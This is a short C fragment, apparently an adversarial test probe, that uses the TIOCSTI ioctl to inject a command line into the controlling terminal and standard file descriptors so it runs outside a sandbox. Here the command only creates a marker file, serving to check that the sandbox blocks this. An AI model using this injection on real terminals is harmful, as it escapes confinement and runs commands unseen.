/* TIOCSTI: fake terminal input, on the controlling terminal and on fds 0-2. */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int adv_attack(void)
{
    static const char cmd[] = "touch /tmp/oslabs-adv-escaped\n";
    int fds[4] = {open("/dev/tty", O_RDWR), 0, 1, 2};

    for (int i = 0; i < 4; i++) {
        if (fds[i] < 0)
            continue;
        for (const char *c = cmd; *c; c++)
            if (ioctl(fds[i], TIOCSTI, c) < 0)
                break;
            else if (c[1] == '\0')
                return 1; /* the whole line went in */
    }
    return 0;
}
